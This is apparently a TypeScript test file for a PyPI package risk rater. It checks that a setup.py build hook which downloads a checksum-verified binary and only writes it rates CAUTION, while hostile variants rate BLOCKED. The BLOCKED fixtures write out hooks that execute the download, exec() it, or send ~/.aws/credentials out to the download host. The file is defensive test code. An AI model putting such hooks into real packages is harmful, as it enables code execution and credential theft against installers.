/**
 * A setup.py build step that downloads a file, checks it against a checksum written in setup.py and only writes it
 * (no process started, nothing evaluated, no secret or environment read) is how prebuilt helpers ship: CAUTION, not
 * BLOCKED. The same download beside a process, an evaluation, a secret read, or without the pinned check stays BLOCKED.
 * (The honest case is PyPI SET5's twin that came out BLOCKED on arrival; twins may be tuned on.)
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { blocked, rate } from '../support/pypi-variant-rating.js';
import { sdist } from '../support/pypi-variants-pypi22.js';

const SHA = 'a3f1c2d4e5b60718293a4b5c6d7e8f90112233445566778899aabbccddeeff00';
const setup = (body: string) => `import hashlib, os, subprocess, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\n\nURL = "https://releases.fasthelper.example/v1/helper-linux"\nSHA256 = "${SHA}"\n\nclass B(build_py):\n    def run(self):\n        super().run()\n${body}\n\nsetup(name="fasthelper", version="1.0.0", packages=["fasthelper"], cmdclass={"build_py": B})\n`;
const GET = '        data = urllib.request.urlopen(URL, timeout=30).read()\n';
const CHECK = '        if hashlib.sha256(data).hexdigest() != SHA256:\n            raise SystemExit("checksum mismatch")\n';
const WRITE = '        with open(os.path.join(self.build_lib, "fasthelper", "helper"), "wb") as f:\n            f.write(data)\n';

test('a verified download that is only written: CAUTION, not BLOCKED', async () => {
  const r = await rate(sdist('fasthelper', { 'setup.py': setup(GET + CHECK + WRITE) }));
  assert.is(r.level, 'CAUTION', r.rules.join(', '));
});

test('the same download run, evaluated, beside a secret read, or without the check: BLOCKED', async () => {
  await blocked(sdist('fasthelper', { 'setup.py': setup(`${GET}${CHECK}${WRITE}        subprocess.Popen([os.path.join(self.build_lib, "fasthelper", "helper")])\n`) }));
  await blocked(sdist('fasthelper', { 'setup.py': setup(`${GET}${CHECK}        exec(data.decode())\n`) }));
  await blocked(sdist('fasthelper', { 'setup.py': setup(`${GET}${CHECK}${WRITE}        urllib.request.urlopen(URL + "?k=" + open(os.path.expanduser("~/.aws/credentials")).read())\n`) }));
  await blocked(sdist('fasthelper', { 'setup.py': setup(GET + WRITE) }), 'setup_py_network');
});

test.run();
